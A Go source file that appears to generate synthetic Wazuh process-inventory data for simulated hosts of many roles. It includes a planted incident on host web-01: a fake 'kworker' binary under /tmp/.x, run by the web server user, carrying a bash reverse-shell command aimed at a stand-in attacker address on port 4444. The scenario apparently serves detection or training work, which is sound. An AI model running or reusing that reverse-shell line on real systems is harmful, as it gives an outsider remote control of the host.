package dataset

import (
	"math/rand/v2"
	"strconv"
	"time"
)

// procSpec is one catalogue process. parent names the process (by name) it
// was forked from; count > 1 yields worker processes.
type procSpec struct {
	name, cmd, argvs, user, parent string
	count, nlwp, vmKB              int
}

var linuxKernelProcs = []procSpec{
	{"systemd", "/sbin/init", "", "root", "", 1, 1, 167000},
	{"kthreadd", "", "", "root", "", 1, 1, 0},
	{"rcu_gp", "", "", "root", "kthreadd", 1, 1, 0},
	{"ksoftirqd/0", "", "", "root", "kthreadd", 1, 1, 0},
	{"migration/0", "", "", "root", "kthreadd", 1, 1, 0},
	{"kworker/0:1-events", "", "", "root", "kthreadd", 1, 1, 0},
	{"kworker/1:2-mm_percpu_wq", "", "", "root", "kthreadd", 1, 1, 0},
	{"kswapd0", "", "", "root", "kthreadd", 1, 1, 0},
	{"jbd2/sda1-8", "", "", "root", "kthreadd", 1, 1, 0},
}

var linuxServiceProcs = []procSpec{
	{"systemd-journal", "/lib/systemd/systemd-journald", "", "root", "systemd", 1, 1, 48000},
	{"systemd-udevd", "/lib/systemd/systemd-udevd", "", "root", "systemd", 1, 1, 25000},
	{"systemd-logind", "/lib/systemd/systemd-logind", "", "root", "systemd", 1, 1, 17000},
	{"dbus-daemon", "/usr/bin/dbus-daemon", "--system --address=systemd: --nofork --nopidfile --systemd-activation --syslog-only", "messagebus", "systemd", 1, 1, 9000},
	{"rsyslogd", "/usr/sbin/rsyslogd", "-n -iNONE", "syslog", "systemd", 1, 4, 222000},
	{"cron", "/usr/sbin/cron", "-f -P", "root", "systemd", 1, 1, 6800},
	{"sshd", "/usr/sbin/sshd", "-D", "root", "systemd", 1, 1, 15400},
	{"agetty", "/sbin/agetty", "-o -p -- \\u --noclear tty1 linux", "root", "systemd", 1, 1, 5800},
	{"auditd", "/sbin/auditd", "", "root", "systemd", 1, 2, 86000},
	{"chronyd", "/usr/sbin/chronyd", "-F 1", "_chrony", "systemd", 1, 1, 10000},
	{"wazuh-execd", "/var/ossec/bin/wazuh-execd", "", "root", "systemd", 1, 1, 14000},
	{"wazuh-agentd", "/var/ossec/bin/wazuh-agentd", "", "wazuh", "systemd", 1, 6, 470000},
	{"wazuh-syscheckd", "/var/ossec/bin/wazuh-syscheckd", "", "root", "systemd", 1, 5, 540000},
	{"wazuh-logcollec", "/var/ossec/bin/wazuh-logcollector", "", "root", "systemd", 1, 5, 680000},
	{"wazuh-modulesd", "/var/ossec/bin/wazuh-modulesd", "", "root", "systemd", 1, 12, 1100000},
	{"sshd", "sshd: admin [priv]", "", "root", "sshd", 1, 1, 17000},
	{"sshd", "sshd: admin@pts/0", "", "admin", "sshd", 1, 1, 17200},
	{"bash", "-bash", "", "admin", "sshd", 1, 1, 8900},
}

var debianExtraProcs = []procSpec{
	{"systemd-network", "/lib/systemd/systemd-networkd", "", "systemd-network", "systemd", 1, 1, 16000},
	{"systemd-resolve", "/lib/systemd/systemd-resolved", "", "systemd-resolve", "systemd", 1, 1, 25000},
	{"unattended-upgr", "/usr/bin/python3", "/usr/share/unattended-upgrades/unattended-upgrade-shutdown --wait-for-signal", "root", "systemd", 1, 2, 110000},
	{"multipathd", "/sbin/multipathd", "-d -s", "root", "systemd", 1, 7, 280000},
	{"snapd", "/usr/lib/snapd/snapd", "", "root", "systemd", 1, 14, 1500000},
}

var rpmExtraProcs = []procSpec{
	{"NetworkManager", "/usr/sbin/NetworkManager", "--no-daemon", "root", "systemd", 1, 3, 260000},
	{"polkitd", "/usr/lib/polkit-1/polkitd", "--no-debug", "polkitd", "systemd", 1, 12, 1600000},
	{"firewalld", "/usr/bin/python3", "-s /usr/sbin/firewalld --nofork --nopid", "root", "systemd", 1, 2, 360000},
	{"crond", "/usr/sbin/crond", "-n", "root", "systemd", 1, 1, 8000},
	{"gssproxy", "/usr/sbin/gssproxy", "-D", "root", "systemd", 1, 6, 210000},
}

var linuxRoleProcs = map[string][]procSpec{
	"web": {
		{"nginx", "/usr/sbin/nginx", "-g daemon on; master_process on;", "root", "systemd", 1, 1, 55000},
		{"nginx", "/usr/sbin/nginx", "", "www-data", "nginx", 4, 1, 56000},
		{"php-fpm8.1", "/usr/sbin/php-fpm8.1", "--nodaemonize --fpm-config /etc/php/8.1/fpm/php-fpm.conf", "root", "systemd", 1, 1, 210000},
		{"php-fpm8.1", "php-fpm: pool www", "", "www-data", "php-fpm8.1", 3, 1, 212000},
	},
	"mysql": {
		{"mysqld", "/usr/libexec/mysqld", "--basedir=/usr", "mysql", "systemd", 1, 38, 2400000},
	},
	"postgres": {
		{"postgres", "/usr/lib/postgresql/15/bin/postgres", "-D /var/lib/postgresql/15/main -c config_file=/etc/postgresql/15/main/postgresql.conf", "postgres", "systemd", 1, 1, 220000},
		{"postgres", "postgres: 15/main: checkpointer", "", "postgres", "postgres", 1, 1, 220000},
		{"postgres", "postgres: 15/main: background writer", "", "postgres", "postgres", 1, 1, 220000},
		{"postgres", "postgres: 15/main: walwriter", "", "postgres", "postgres", 1, 1, 220000},
		{"postgres", "postgres: 15/main: autovacuum launcher", "", "postgres", "postgres", 1, 1, 222000},
		{"postgres", "postgres: 15/main: logical replication launcher", "", "postgres", "postgres", 1, 1, 222000},
		{"postgres", "postgres: 15/main: app appdb 10.0.1.11(51514) idle", "", "postgres", "postgres", 3, 1, 224000},
	},
	"mail": {
		{"master", "/usr/lib/postfix/sbin/master", "-w", "root", "systemd", 1, 1, 42000},
		{"qmgr", "qmgr", "-l -t unix -u", "postfix", "master", 1, 1, 42000},
		{"pickup", "pickup", "-l -t unix -u -c", "postfix", "master", 1, 1, 42000},
		{"tlsmgr", "tlsmgr", "-l -t unix -u -c", "postfix", "master", 1, 1, 42000},
		{"dovecot", "/usr/sbin/dovecot", "-F", "root", "systemd", 1, 1, 7000},
		{"imap-login", "dovecot/imap-login", "", "dovenull", "dovecot", 2, 1, 9000},
		{"opendkim", "/usr/sbin/opendkim", "-P /run/opendkim/opendkim.pid -p local:/var/spool/postfix/opendkim/opendkim.sock", "opendkim", "systemd", 1, 6, 220000},
		{"spamd", "/usr/bin/perl", "-T -w /usr/sbin/spamd --pidfile=/run/spamd.pid --create-prefs --max-children 5", "root", "systemd", 1, 1, 110000},
	},
	"vpn": {
		{"openvpn", "/usr/sbin/openvpn", "--daemon ovpn-server --status /run/openvpn/server.status 10 --cd /etc/openvpn --config /etc/openvpn/server.conf", "nobody", "systemd", 1, 1, 12000},
		{"charon", "/usr/lib/ipsec/charon", "", "root", "systemd", 1, 17, 1300000},
		{"fail2ban-server", "/usr/bin/python3", "/usr/bin/fail2ban-server -xf start", "root", "systemd", 1, 5, 400000},
	},
	"k8s": {
		{"containerd", "/usr/bin/containerd", "", "root", "systemd", 1, 14, 2100000},
		{"dockerd", "/usr/bin/dockerd", "-H fd:// --containerd=/run/containerd/containerd.sock", "root", "systemd", 1, 12, 2300000},
		{"kubelet", "/usr/bin/kubelet", "--config /etc/kubernetes/kubelet/kubelet-config.json --kubeconfig /var/lib/kubelet/kubeconfig --container-runtime-endpoint unix:///run/containerd/containerd.sock", "root", "systemd", 1, 16, 2000000},
		{"containerd-shim", "/usr/bin/containerd-shim-runc-v2", "-namespace k8s.io -address /run/containerd/containerd.sock", "root", "systemd", 4, 11, 1240000},
		{"pause", "/pause", "", "65535", "containerd-shim", 4, 1, 1000},
		{"kube-proxy", "/usr/local/bin/kube-proxy", "--v=2 --config=/var/lib/kube-proxy-config/config --hostname-override=ip-10-0-4-31", "root", "containerd-shim", 1, 9, 1300000},
		{"coredns", "/coredns", "-conf /etc/coredns/Corefile", "65532", "containerd-shim", 1, 11, 760000},
		{"aws-k8s-agent", "/app/aws-k8s-agent", "", "root", "containerd-shim", 1, 12, 1400000},
	},
	"jenkins": {
		{"java", "/usr/bin/java", "-Djava.awt.headless=true -jar /usr/share/java/jenkins.war --webroot=/var/cache/jenkins/war --httpPort=8080", "jenkins", "systemd", 1, 78, 6200000},
		{"containerd", "/usr/bin/containerd", "", "root", "systemd", 1, 14, 2100000},
		{"dockerd", "/usr/bin/dockerd", "-H fd:// --containerd=/run/containerd/containerd.sock", "root", "systemd", 1, 12, 2300000},
	},
	"bastion": {
		{"fail2ban-server", "/usr/bin/python3", "/usr/bin/fail2ban-server -xf start", "root", "systemd", 1, 5, 400000},
		{"sshd", "sshd: jdoe [priv]", "", "root", "sshd", 1, 1, 17000},
		{"sshd", "sshd: jdoe@pts/1", "", "jdoe", "sshd", 1, 1, 17200},
		{"tmux: server", "tmux", "new -s ops", "jdoe", "systemd", 1, 1, 11000},
	},
	"proxy": {
		{"squid", "/usr/sbin/squid", "--foreground -sYC", "root", "systemd", 1, 1, 76000},
		{"squid", "(squid-1)", "--kid squid-1 --foreground -sYC", "proxy", "squid", 1, 1, 240000},
		{"haproxy", "/usr/sbin/haproxy", "-Ws -f /etc/haproxy/haproxy.cfg -p /run/haproxy.pid -S /run/haproxy-master.sock", "root", "systemd", 1, 1, 15000},
		{"haproxy", "/usr/sbin/haproxy", "-Ws -f /etc/haproxy/haproxy.cfg -p /run/haproxy.pid -S /run/haproxy-master.sock", "haproxy", "haproxy", 1, 3, 300000},
	},
	"legacy": {
		{"httpd", "/usr/sbin/httpd", "-DFOREGROUND", "root", "systemd", 1, 1, 230000},
		{"httpd", "/usr/sbin/httpd", "-DFOREGROUND", "apache", "httpd", 5, 1, 232000},
		{"java", "/usr/lib/jvm/jre/bin/java", "-classpath /usr/share/tomcat/bin/bootstrap.jar:/usr/share/tomcat/bin/tomcat-juli.jar -Dcatalina.base=/usr/share/tomcat org.apache.catalina.startup.Bootstrap start", "tomcat", "systemd", 1, 44, 4500000},
	},
	"manager": {
		{"wazuh-authd", "/var/ossec/bin/wazuh-authd", "", "root", "systemd", 1, 4, 410000},
		{"wazuh-db", "/var/ossec/bin/wazuh-db", "", "wazuh", "systemd", 1, 40, 1300000},
		{"wazuh-analysisd", "/var/ossec/bin/wazuh-analysisd", "", "wazuh", "systemd", 1, 21, 1900000},
		{"wazuh-remoted", "/var/ossec/bin/wazuh-remoted", "", "wazuh", "systemd", 1, 8, 760000},
		{"wazuh-monitord", "/var/ossec/bin/wazuh-monitord", "", "wazuh", "systemd", 1, 3, 420000},
		{"wazuh-clusterd", "/var/ossec/framework/python/bin/python3", "/var/ossec/api/scripts/wazuh_clusterd.py", "wazuh", "systemd", 1, 6, 1100000},
		{"wazuh-apid", "/var/ossec/framework/python/bin/python3", "/var/ossec/api/scripts/wazuh_apid.py", "wazuh", "systemd", 4, 7, 1400000},
		{"java", "/usr/share/wazuh-indexer/jdk/bin/java", "-Xms1g -Xmx1g -XX:+UseG1GC -Dopensearch.path.home=/usr/share/wazuh-indexer org.opensearch.bootstrap.OpenSearch -p /run/wazuh-indexer/wazuh-indexer.pid --quiet", "wazuh-indexer", "systemd", 1, 92, 5900000},
		{"node", "/usr/share/wazuh-dashboard/node/bin/node", "--no-warnings --max-http-header-size=65536 --unhandled-rejections=warn /usr/share/wazuh-dashboard/src/cli/dist", "wazuh-dashboard", "systemd", 1, 11, 1400000},
		{"filebeat", "/usr/share/filebeat/bin/filebeat", "--environment systemd -c /etc/filebeat/filebeat.yml --path.home /usr/share/filebeat", "root", "systemd", 1, 9, 1600000},
	},
}

// web01IncidentProcs are the reverse shell of the web-01 compromise: a
// binary dropped under /tmp/.x masquerading as a kernel worker, run by the
// web server user, with a bash child wired to 203.0.113.7:4444.
var web01IncidentProcs = []procSpec{
	{"kworker", "/tmp/.x/kworker", "-c bash -i >& /dev/tcp/" + IncidentAttackerIP + "/4444 0>&1", "www-data", "php-fpm8.1", 1, 1, 4200},
	{"bash", "/bin/bash", "-i", "www-data", "kworker", 1, 1, 8900},
}

var windowsProcs = []procSpec{
	{"System", "", "", "SYSTEM", "", 1, 180, 4000},
	{"Registry", "", "", "SYSTEM", "System", 1, 4, 90000},
	{"smss.exe", `C:\Windows\System32\smss.exe`, "", "SYSTEM", "System", 1, 2, 1100},
	{"csrss.exe", `C:\Windows\System32\csrss.exe`, "ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows ServerDll=basesrv,1", "SYSTEM", "smss.exe", 2, 12, 5400},
	{"wininit.exe", `C:\Windows\System32\wininit.exe`, "", "SYSTEM", "smss.exe", 1, 1, 6500},
	{"winlogon.exe", `C:\Windows\System32\winlogon.exe`, "", "SYSTEM", "smss.exe", 1, 5, 10500},
	{"services.exe", `C:\Windows\System32\services.exe`, "", "SYSTEM", "wininit.exe", 1, 7, 9800},
	{"lsass.exe", `C:\Windows\System32\lsass.exe`, "", "SYSTEM", "wininit.exe", 1, 10, 26000},
	{"svchost.exe", `C:\Windows\System32\svchost.exe`, "-k DcomLaunch -p", "SYSTEM", "services.exe", 1, 19, 18000},
	{"svchost.exe", `C:\Windows\System32\svchost.exe`, "-k RPCSS -p", "NETWORK SERVICE", "services.exe", 1, 12, 11000},
	{"svchost.exe", `C:\Windows\System32\svchost.exe`, "-k termsvcs -s TermService", "NETWORK SERVICE", "services.exe", 1, 16, 14000},
	{"svchost.exe", `C:\Windows\System32\svchost.exe`, "-k netsvcs -p -s Schedule", "SYSTEM", "services.exe", 1, 9, 12000},
	{"svchost.exe", `C:\Windows\System32\svchost.exe`, "-k LocalServiceNetworkRestricted -p -s EventLog", "LOCAL SERVICE", "services.exe", 1, 14, 16000},
	{"svchost.exe", `C:\Windows\System32\svchost.exe`, "-k NetworkService -p -s Dnscache", "NETWORK SERVICE", "services.exe", 1, 7, 9000},
	{"svchost.exe", `C:\Windows\System32\svchost.exe`, "-k netsvcs -p -s Winmgmt", "SYSTEM", "services.exe", 1, 11, 15000},
	{"spoolsv.exe", `C:\Windows\System32\spoolsv.exe`, "", "SYSTEM", "services.exe", 1, 8, 14000},
	{"MsMpEng.exe", `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24080.9-0\MsMpEng.exe`, "", "SYSTEM", "services.exe", 1, 38, 320000},
	{"wazuh-agent.exe", `C:\Program Files (x86)\ossec-agent\wazuh-agent.exe`, "", "SYSTEM", "services.exe", 1, 24, 38000},
	{"Sysmon64.exe", `C:\Windows\Sysmon64.exe`, "", "SYSTEM", "services.exe", 1, 14, 24000},
	{"vmtoolsd.exe", `C:\Program Files\VMware\VMware Tools\vmtoolsd.exe`, "", "SYSTEM", "services.exe", 1, 12, 28000},
	{"dwm.exe", `C:\Windows\System32\dwm.exe`, "", "DWM-1", "winlogon.exe", 1, 20, 90000},
	{"WmiPrvSE.exe", `C:\Windows\System32\wbem\WmiPrvSE.exe`, "", "NETWORK SERVICE", "svchost.exe", 1, 9, 12000},
	{"taskhostw.exe", `C:\Windows\System32\taskhostw.exe`, "{222A245B-E637-4AE9-A93F-A59CA119A75E}", "Administrator", "svchost.exe", 1, 9, 14000},
}

var windowsRoleProcs = map[string][]procSpec{
	"dc": {
		{"dns.exe", `C:\Windows\System32\dns.exe`, "", "SYSTEM", "services.exe", 1, 28, 90000},
		{"ismserv.exe", `C:\Windows\System32\ismserv.exe`, "", "SYSTEM", "services.exe", 1, 6, 7000},
		{"dfsrs.exe", `C:\Windows\System32\dfsrs.exe`, "", "SYSTEM", "services.exe", 1, 16, 30000},
		{"Microsoft.ActiveDirectory.WebServices.exe", `C:\Windows\ADWS\Microsoft.ActiveDirectory.WebServices.exe`, "", "SYSTEM", "services.exe", 1, 11, 60000},
	},
	"fileserver": {
		{"Veeam.EndPoint.Service.exe", `C:\Program Files\Veeam\Endpoint Backup\Veeam.EndPoint.Service.exe`, "", "SYSTEM", "services.exe", 1, 22, 120000},
		{"dfsrs.exe", `C:\Windows\System32\dfsrs.exe`, "", "SYSTEM", "services.exe", 1, 16, 30000},
	},
	"workstation": {
		{"explorer.exe", `C:\Windows\explorer.exe`, "", "user", "winlogon.exe", 1, 70, 180000},
		{"chrome.exe", `C:\Program Files\Google\Chrome\Application\chrome.exe`, "", "user", "explorer.exe", 4, 20, 220000},
		{"OUTLOOK.EXE", `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, "", "user", "explorer.exe", 1, 60, 520000},
		{"ms-teams.exe", `C:\Program Files\WindowsApps\MSTeams_24243.1309.3132.617_x64__8wekyb3d8bbwe\ms-teams.exe`, "", "user", "explorer.exe", 1, 50, 320000},
		{"OneDrive.exe", `C:\Program Files\Microsoft OneDrive\OneDrive.exe`, "/background", "user", "explorer.exe", 1, 30, 110000},
	},
	"devws": {
		{"explorer.exe", `C:\Windows\explorer.exe`, "", "dev", "winlogon.exe", 1, 70, 180000},
		{"Code.exe", `C:\Program Files\Microsoft VS Code\Code.exe`, "", "dev", "explorer.exe", 3, 25, 410000},
		{"Docker Desktop.exe", `C:\Program Files\Docker\Docker\Docker Desktop.exe`, "", "dev", "explorer.exe", 1, 30, 250000},
		{"powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "-NoLogo", "dev", "explorer.exe", 1, 14, 80000},
		{"chrome.exe", `C:\Program Files\Google\Chrome\Application\chrome.exe`, "", "dev", "explorer.exe", 3, 20, 220000},
	},
}

var macProcs = []procSpec{
	{"kernel_task", "", "", "root", "", 1, 300, 0},
	{"launchd", "/sbin/launchd", "", "root", "kernel_task", 1, 4, 420000},
	{"logd", "/usr/libexec/logd", "", "root", "launchd", 1, 5, 410000},
	{"UserEventAgent", "/usr/libexec/UserEventAgent", "(System)", "root", "launchd", 1, 3, 410000},
	{"configd", "/usr/libexec/configd", "", "root", "launchd", 1, 8, 410000},
	{"mds", "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Support/mds", "", "root", "launchd", 1, 9, 420000},
	{"WindowServer", "/System/Library/PrivateFrameworks/SkyLight.framework/Resources/WindowServer", "-daemon", "_windowserver", "launchd", 1, 20, 440000},
	{"loginwindow", "/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow", "console", "dev", "launchd", 1, 4, 430000},
	{"Finder", "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "", "dev", "launchd", 1, 8, 450000},
	{"Dock", "/System/Library/CoreServices/Dock.app/Contents/MacOS/Dock", "", "dev", "launchd", 1, 5, 440000},
	{"sshd-keygen-wrapper", "/usr/libexec/sshd-keygen-wrapper", "", "root", "launchd", 1, 1, 410000},
	{"wazuh-agentd", "/Library/Ossec/bin/wazuh-agentd", "", "wazuh", "launchd", 1, 6, 420000},
	{"wazuh-syscheckd", "/Library/Ossec/bin/wazuh-syscheckd", "", "root", "launchd", 1, 5, 420000},
	{"wazuh-logcollector", "/Library/Ossec/bin/wazuh-logcollector", "", "root", "launchd", 1, 5, 420000},
	{"wazuh-modulesd", "/Library/Ossec/bin/wazuh-modulesd", "", "root", "launchd", 1, 12, 430000},
	{"Google Chrome", "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", "", "dev", "launchd", 1, 40, 520000},
	{"Slack", "/Applications/Slack.app/Contents/MacOS/Slack", "", "dev", "launchd", 1, 30, 500000},
	{"Code Helper", "/Applications/Visual Studio Code.app/Contents/Frameworks/Code Helper.app/Contents/MacOS/Code Helper", "--type=utility", "dev", "launchd", 3, 15, 480000},
	{"zsh", "/bin/zsh", "-il", "dev", "launchd", 2, 1, 410000},
	{"com.docker.backend", "/Applications/Docker.app/Contents/MacOS/com.docker.backend", "", "dev", "launchd", 1, 20, 470000},
}

// processSpecs returns the agent's process list in creation order (parents
// before children, so ppids resolve).
func processSpecs(a agent) []procSpec {
	var out []procSpec
	switch a.os.family {
	case "windows":
		out = append(out, windowsProcs...)
		out = append(out, windowsRoleProcs[a.role]...)
	case "macos":
		out = append(out, macProcs...)
	default:
		out = append(out, linuxKernelProcs...)
		out = append(out, linuxServiceProcs...)
		if a.os.family == "deb" {
			out = append(out, debianExtraProcs...)
		} else {
			out = append(out, rpmExtraProcs...)
		}
		out = append(out, linuxRoleProcs[a.role]...)
		if a.id == web01ID {
			out = append(out, web01IncidentProcs...)
		}
	}
	return out
}

// procInstance is a spawned process with its pid (kept for ports).
type procInstance struct {
	procSpec
	pid, ppid int
	started   time.Time
}

// spawnProcesses assigns pids and start times; boot is when the host started.
func spawnProcesses(r *rand.Rand, a agent, boot, now time.Time) []procInstance {
	specs := processSpecs(a)
	out := make([]procInstance, 0, len(specs)+16)
	lastPid := map[string]int{}
	next := 300
	for i, s := range specs {
		n := s.count
		if n < 1 {
			n = 1
		}
		for k := 0; k < n; k++ {
			pid := next + between(r, 1, 400)
			switch {
			case s.name == "systemd" && s.parent == "", s.name == "System", s.name == "kernel_task" && i == 0:
				pid = map[string]int{"systemd": 1, "System": 4, "kernel_task": 0}[s.name]
			case s.name == "kthreadd", s.name == "launchd":
				pid = map[string]int{"kthreadd": 2, "launchd": 1}[s.name]
			case s.cmd == "" && a.os.isLinux():
				pid = 3 + i*7 + k
			default:
				next = pid
			}
			started := boot.Add(time.Duration(between(r, 2, 120)) * time.Second)
			if a.id == web01ID && (s.name == "kworker" || (s.name == "bash" && s.parent == "kworker")) {
				started = now.Add(-IncidentShellAge + IncidentDropperDelay).Add(time.Duration(k) * time.Second)
			} else if s.user != "root" && s.user != "SYSTEM" && chance(r, 0.3) {
				started = now.Add(-time.Duration(between(r, 600, 86400)) * time.Second)
			}
			out = append(out, procInstance{procSpec: s, pid: pid, ppid: lastPid[s.parent], started: started})
			if _, ok := lastPid[s.name]; !ok || k == 0 {
				lastPid[s.name] = pid
			}
		}
	}
	return out
}

// processItems renders GET /syscollector/{id}/processes.
func processItems(r *rand.Rand, a agent, procs []procInstance, boot time.Time, scan Item) []Item {
	out := make([]Item, 0, len(procs))
	for _, p := range procs {
		vm := p.vmKB + r.IntN(p.vmKB/10+1)
		it := Item{
			"agent_id": a.id, "scan": scan, "pid": strconv.Itoa(p.pid), "ppid": p.ppid, "name": p.name,
			"cmd": p.cmd, "argvs": p.argvs, "nlwp": p.nlwp, "priority": 20, "vm_size": vm,
			"size": vm / 4, "session": p.pid, "utime": r.IntN(50000), "stime": r.IntN(20000),
			"start_time": p.started.Unix(),
		}
		if a.os.isWindows() {
			it["priority"] = 8
			it["session"] = 0
			if p.user != "SYSTEM" && p.user != "NETWORK SERVICE" && p.user != "LOCAL SERVICE" {
				it["session"] = 1
			}
			out = append(out, it)
			continue
		}
		grp := p.user
		if grp == "admin" || grp == "jdoe" || grp == "dev" {
			grp = "staff"
			if a.os.isLinux() {
				grp = p.user
			}
		}
		state := "S"
		if chance(r, 0.05) {
			state = "R"
		}
		if !a.os.isLinux() {
			it["start_time"] = p.started.Unix()
		} else {
			// Linux reports start_time in clock ticks since boot.
			it["start_time"] = int64(p.started.Sub(boot).Seconds()) * 100
		}
		tty := 0
		if p.name == "bash" && p.parent == "sshd" {
			tty = 34816
		}
		unix := Item{
			"euser": p.user, "ruser": p.user, "suser": p.user, "fgroup": grp, "egroup": grp, "rgroup": grp, "sgroup": grp,
			"state": state, "nice": 0, "resident": vm / 8, "share": vm / 20, "tgid": p.pid, "pgrp": p.pid,
			"processor": r.IntN(4), "tty": tty,
		}
		for k, v := range unix {
			it[k] = v
		}
		out = append(out, it)
	}
	return out
}
